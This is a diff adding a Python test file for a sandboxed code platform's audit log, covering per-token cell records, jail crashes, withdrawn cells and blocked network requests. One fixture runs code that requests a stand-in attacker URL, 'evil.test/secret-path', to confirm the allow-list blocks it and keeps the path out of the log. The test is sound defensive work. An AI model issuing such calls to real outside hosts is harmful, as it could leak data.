@@ -1,0 +1,144 @@
+"""What cells and jails on a platform did, in its audit log."""
+
+from __future__ import annotations
+
+import hashlib
+
+from tests.gateway.test_gateway_server import until
+from tests.gateway.world import BARE, World
+
+from cenote.gateway.audit.collector import written_deeds
+from cenote.gateway.audit.entry import Entry
+from cenote.gateway.audit.folder import log_files
+from cenote.gateway.audit.selection import Selection, described, selected
+from cenote.gateway.audit.verification import entries, verify
+from cenote_proto.v1 import runtime_pb2
+from cenote_security.network import Allow
+from cenote_security.policy import SandboxPolicy
+from cenote_security.secret_files import read_secret_file
+
+ASKS = """
+import urllib.request
+try:
+    urllib.request.urlopen("http://evil.test/secret-path")
+except OSError as error:
+    print(error)
+"""
+
+
+def recorded(world: World, kind: str) -> list[Entry]:
+    """Of a platform that was closed."""
+    return [entry for entry in entries(world.state.audit) if entry.event.kind == kind]
+
+
+def test_who_ran_what_where_and_what_became_of_it(either: World) -> None:
+    """Once per cell, in order, told apart by token; neither code nor what it printed."""
+    acme, colleague = either.user("acme"), either.user("acme")
+    made = acme.create("etl")
+    line, other = acme.line(made), colleague.line(colleague.get("etl"), "two")
+    line.welcome()
+    other.welcome()
+    code = "secret = 'hunter2'\nprint(secret * 100)"
+    assert line.run("1 + 1").success
+    assert line.run(code).success
+    assert not other.run("raise KeyError('hunter2')").success
+    either.close()
+    first, second, third = recorded(either, "cell")
+    assert [acme.token_id, acme.token_id, colleague.token_id] == [
+        each.event.token for each in (first, second, third)
+    ]
+    assert {(acme.tenant, made.id)} == {
+        (each.event.tenant, each.event.runtime) for each in (first, second, third)
+    }
+    facts = second.event.facts
+    assert (hashlib.sha256(code.encode()).hexdigest(), "secret = 'hunter2'") == (
+        facts["code_sha256"],
+        facts["first_line"],
+    )
+    assert (True, 2, len(code), 701) == tuple(
+        facts[name] for name in ("success", "step", "code_bytes", "output_bytes")
+    )
+    assert (False, "KeyError") == (third.event.facts["success"], third.event.facts["error"])
+    (created,) = recorded(either, "runtime.created")
+    policy = created.event.facts["policy"]
+    assert isinstance(policy, dict)
+    assert facts["policy_sha256"] == policy["sha256"]
+    assert verify(either.state.audit, read_secret_file(either.state.audit_key)).broken is None
+
+
+def test_a_cell_is_on_record_while_the_platform_runs(world: World) -> None:
+    """Soon, and not only at its end; a cell that is asked for twice under its key is one."""
+    acme = world.user("acme")
+    line = acme.line(acme.create("etl"))
+    line.welcome()
+    for _ in range(2):
+        assert line.run("1", key="once").success
+    until(lambda: [1] == list(written_deeds(world.state.audit).values()))
+    assert line.run("2").success
+    world.close()
+    assert [1, 2] == [entry.event.facts["number"] for entry in recorded(world, "cell")]
+
+
+def test_a_jail_that_died_is_on_record(world: World) -> None:
+    """With the reason, and what became of its state."""
+    acme = world.user("acme")
+    line = acme.line(acme.create("etl"))
+    line.welcome()
+    line.run("import os\nos._exit(3)")
+    world.close()
+    (entry,) = recorded(world, "cell")
+    assert (False, "rolled_back") == (entry.event.facts["success"], entry.event.facts["state"])
+
+
+def test_what_a_jail_asked_of_the_network_is_on_record(world: World) -> None:
+    """Host, port and why not; not what it wanted there."""
+    acme = world.user("acme")
+    policy = SandboxPolicy(preload=(), memory=BARE.memory, network=Allow(["files.test"]))
+    made = acme.create("etl", policy)
+    line = acme.line(made)
+    line.welcome()
+    assert line.run(ASKS).success
+    world.close()
+    (entry,) = recorded(world, "network")
+    facts = entry.event.facts
+    assert ("evil.test", 80, False) == (facts["host"], facts["port"], facts["allowed"])
+    assert "not on the allow-list" in str(facts["reason"])
+    assert made.id == entry.event.runtime
+    assert b"secret-path" not in b"".join(path.read_bytes() for path in log_files(world.state.audit))
+
+
+def test_entries_are_selected(world: World) -> None:
+    """By runtime, tenant and time; each is one line, whatever a cell's first line is."""
+    acme, rival = world.user("acme"), world.user("rival")
+    for user in (acme, rival):
+        line = user.line(user.create("etl"))
+        line.welcome()
+        assert line.run("x = '\x1b[31m\u202e'\\\n ''").success
+    world.close()
+    files = log_files(world.state.audit)
+    everything = list(selected(files, Selection()))
+    mine = [entry for entry in selected(files, Selection(tenant=acme.tenant)) if entry.event.kind == "cell"]
+    (entry,) = mine
+    assert [entry] == [
+        each
+        for each in selected(files, Selection(runtime=entry.event.runtime, since=entry.at))
+        if each.event.kind == "cell"
+    ]
+    assert [] == list(selected(files, Selection(since=everything[-1].at + 1)))
+    assert all(text.isascii() and text.isprintable() for text in map(described, everything))
+
+
+def test_a_cell_that_never_ran_is_not_on_record(world: World) -> None:
+    """One that was taken back while it waited for its turn."""
+    acme = world.user("acme")
+    line = acme.line(acme.create("etl"))
+    line.welcome()
+    running = line.cell("import time\nprint('begun', flush=True)\nfor _ in range(6000): time.sleep(0.01)")
+    line.until(lambda frame: frame.call == running and frame.HasField("output"))
+    waiting = line.cell("never = True")
+    line.put(runtime_pb2.ClientFrame(call=waiting, withdraw=runtime_pb2.Withdraw()))
+    line.put(runtime_pb2.ClientFrame(interrupt=runtime_pb2.Interrupt()))
+    assert not line.answer(running).result.success
+    world.close()
+    (entry,) = recorded(world, "cell")
+    assert "KeyboardInterrupt" == entry.event.facts["error"]
